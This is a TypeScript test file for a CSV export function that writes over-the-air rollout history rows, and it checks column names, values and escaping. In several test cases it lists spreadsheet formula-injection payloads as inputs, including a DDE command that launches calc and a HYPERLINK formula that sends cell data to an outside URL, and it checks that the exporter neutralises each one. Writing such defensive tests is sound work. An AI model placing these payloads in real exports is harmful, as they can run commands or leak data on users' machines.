import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvOf } from '../../../../lib/api/csv.ts';
import { counts } from '../../../support/builders.ts';
import { rolloutHistory, storedRow } from '../../../support/history-rows.ts';
import { readCsv } from '../../../support/read-csv.ts';

const NAMES =
  'observedAt,taskId,sequence,detailType,status,previousStatus,queued,inProgress,succeeded,failed,rejected,timedOut,removed,canceled,total,severity,ruleId,kind,value,limit,unit,numerator,denominator,summary,reason,inferredCause,percentComplete,ratePerMinute,estimatedCompletionAt,breachedAt,durationSeconds,reminder,flapping,sampleThings,description,configurationId,previousConfigurationId,otaType,lastUpdatedAt,setAsideSequence,errorCode,errorMessage,taskArn,accountId,region,published,eventId,previousSequence,previousHash,hash,expiresAt';

/** What a reader of the file gets of a row, empty columns left out. */
function fieldsOf(row: Readonly<Record<string, unknown>>): Record<string, string> {
  const [names = [], ...records] = readCsv(csvOf([row], true));
  expect(records).toHaveLength(1);
  const fields = names.map((name, index) => [name, records[0]?.[index] ?? ''] as const);
  return Object.fromEntries(fields.filter(([, value]) => value !== ''));
}

describe('csvOf', () => {
  it('names its columns where it is told to', () => {
    expect(csvOf([], true)).toBe(`${NAMES}\r\n`);
    expect(csvOf([], false)).toBe('');
    expect(csvOf([storedRow()], true)).toBe(`${NAMES}\r\n${csvOf([storedRow()], false)}`);
  });

  it('has the values of a row under their names', () => {
    const row = storedRow({
      sequence: 7,
      detailType: 'OTA Task Threshold Breached',
      counts: counts({
        queued: 1,
        inProgress: 2,
        succeeded: 3,
        failed: 4,
        rejected: 5,
        timedOut: 6,
        removed: 7,
        canceled: 8,
      }),
      rule: { id: 'r1', kind: 'ratio', severity: 'error', description: 'not shown' },
      observed: { value: 12.5, limit: 10, unit: 'percent', numerator: 1, denominator: 8 },
      summary: 'A "sentence", with\nlines',
      ratePerMinute: -0.5,
      flapping: true,
      published: false,
      sampleThings: [{ managedThingId: 'thing1', status: 'FAILED' }],
    });
    expect(fieldsOf(row)).toEqual({
      observedAt: '2026-11-22T12:00:00.000Z',
      taskId: 'task1',
      sequence: '7',
      detailType: 'OTA Task Threshold Breached',
      status: 'IN_PROGRESS',
      queued: '1',
      inProgress: '2',
      succeeded: '3',
      failed: '4',
      rejected: '5',
      timedOut: '6',
      removed: '7',
      canceled: '8',
      total: '36',
      severity: 'error',
      ruleId: 'r1',
      kind: 'ratio',
      value: '12.5',
      limit: '10',
      unit: 'percent',
      numerator: '1',
      denominator: '8',
      summary: 'A "sentence", with\nlines',
      ratePerMinute: '-0.5',
      flapping: 'true',
      sampleThings: '[{"managedThingId":"thing1","status":"FAILED"}]',
      configurationId: 'config1',
      otaType: 'ONE_TIME',
      taskArn: 'arn:aws:iotmanagedintegrations:eu-west-1:123456789012:ota-task/task1',
      accountId: '123456789012',
      region: 'eu-west-1',
      published: 'false',
      eventId: 'task1:7',
      hash: '7'.padStart(64, '0'),
    });
  });

  it('has a column for whatever rollouts leave in the history', () => {
    const shown = new Set([
      ...NAMES.split(','),
      // Spread over columns of their own, or told by others.
      ...['counts', 'rule', 'observed', 'day', 'schemaVersion', 'terminal', 'previousCounts'],
    ]);
    const names = new Set(
      Array.from({ length: 12 }, (_, seed) => rolloutHistory(seed, 30))
        .flat()
        .flatMap(Object.keys),
    );
    expect([...names].filter((name) => !shown.has(name))).toEqual([]);
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\tcmd',
    '\r=1',
    '\n=1',
    '\nx',
    ' =1+1',
    '\u00a0+1',
    '\u200b=1',
    '\ufeff@x',
    '\u0000-1',
    '\uff1d1',
    '\uff0b1',
    '\uff0d1',
    '\uff201',
    '  \uff1d1',
    '=HYPERLINK("http://example.com?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
  ])('makes text of the formula %j', (description) => {
    expect(fieldsOf(storedRow({ description })).description).toBe(`'${description}`);
  });

  it.each([
    ["x;=cmd|' /C calc'!A0;y", "x;'=cmd|' /C calc'!A0;y"],
    ['x; =1;+2', "x;' =1;'+2"],
    ['x\t@a', "x\t'@a"],
    ['x|-1', "x|'-1"],
    ['x;"=1"', 'x;\'"=1"'],
    ['=1;=1', "'=1;'=1"],
  ])('makes text of a formula behind what other files are split at: %j', (description, shown) => {
    expect(fieldsOf(storedRow({ description })).description).toBe(shown);
  });

  it('takes no time for long text', () => {
    const description = `x${'\t'.repeat(300_000)}`;
    expect(fieldsOf(storedRow({ description })).description).toBe(description);
  });

  it.each(['a;b', "a;'=1", 'a=1', '1-2', "'=1", 'ä', '-', '  text', 'x\n=1', '\u200btext', '0', '|x', '%x'])(
    'leaves the text %j alone',
    (description) => {
      const expected = description === '-' ? "'-" : description;
      expect(fieldsOf(storedRow({ description })).description).toBe(expected);
    },
  );

  it('keeps negative numbers numbers, and text that looks like one text', () => {
    expect(fieldsOf(storedRow({ ratePerMinute: -12.5, description: '-12.5' }))).toMatchObject({
      ratePerMinute: '-12.5',
      description: "'-12.5",
    });
  });

  it('gives back any text, with apostrophes where there could be a formula, and never lets it begin like one', () =>
    fc.assert(
      fc.property(
        fc.array(
          fc.string({
            unit: fc.oneof(fc.constantFrom(...'=+-@\t\r\n ,";\'＝'), fc.string({ unit: 'binary' })),
          }),
        ),
        (texts) => {
          const rows = texts.map((description, index) => storedRow({ sequence: index + 1, description }));
          const records = readCsv(csvOf(rows, false));
          const column = NAMES.split(',').indexOf('description');
          const shown = records.map((record) => record[column] ?? '');
          const split = texts.map((text) =>
            text.replace(/[;\t|](?=[\s\p{Cc}\p{Cf}"]{0,32}[=+\-@\uff1d\uff0b\uff0d\uff20])/gu, "$&'"),
          );
          expect(shown.map((text, index) => (text === split[index] ? text : text.replace(/^'/, '')))).toEqual(
            split,
          );
          for (const text of shown) expect(text.trimStart()).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/);
          expect(records.every((record) => record.length === NAMES.split(',').length)).toBe(true);
        },
      ),
    ));
});
